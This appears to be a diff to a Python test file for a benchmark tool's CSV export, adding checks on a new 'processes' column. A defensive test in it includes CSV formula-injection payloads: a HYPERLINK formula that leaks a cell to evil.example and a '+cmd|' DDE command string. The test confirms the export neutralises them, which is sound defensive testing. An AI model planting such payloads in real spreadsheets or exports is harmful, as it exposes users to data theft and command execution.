@@ -149,7 +149,7 @@ def test_export_a_run(cb, filled, tmp_path):
     row = next(x for x in rows if x["metric"] == "time_to_next_token_mean_secs")
     assert row["commit_time"] == "2025-01-01T01:00:00+00:00" and row["direction"] == "lower"
     assert [float(v) for v in row["samples"].split()] == pytest.approx([0.010, 0.011, 0.009])
-    assert float(row["median"]) == pytest.approx(0.010)
+    assert float(row["median"]) == pytest.approx(0.010) and row["processes"] == "1"
     assert cli_in_process(["export", "1111", "--format", "csv", "-o", tmp_path], cb.env).returncode == 2  # a directory
 
 
@@ -161,12 +161,14 @@ def test_csv_export_writes_no_formula(cb, filled, tmp_path):
     r.branch, r.commit_id, r.commit_time = '=HYPERLINK("http://evil.example/?"&A1,"click")', "c5c5c5c5", T0 + 5 * HOUR
     r.scenarios[0].name = "+cmd|' /C calc'!A0"
     r.scenarios[0].metrics[0].samples = [-0.5]  # a negative number is not a formula
+    r.scenarios[0].metrics[1].processes = 3  # its 3 samples: one per worker process (run --processes 3)
     (tmp_path / "hostile.json").write_text(r.to_json())
     assert cli_in_process(["ingest", tmp_path / "hostile.json"], cb.env).returncode == 0
     out = cli_in_process(["export", "5555", "--format", "csv"], cb.env).stdout
     rows = list(csv.DictReader(io.StringIO(out)))
     assert {x["branch"] for x in rows} == {"'" + r.branch}
     assert rows[0]["scenario"] == "'+cmd|' /C calc'!A0" and rows[0]["samples"] == "-0.5"
+    assert [x["processes"] for x in rows[:2]] == ["1", "3"]
     from benchmark.cli.export import cell
 
     assert [cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "main", "-1.5 2.0", 3)] == \
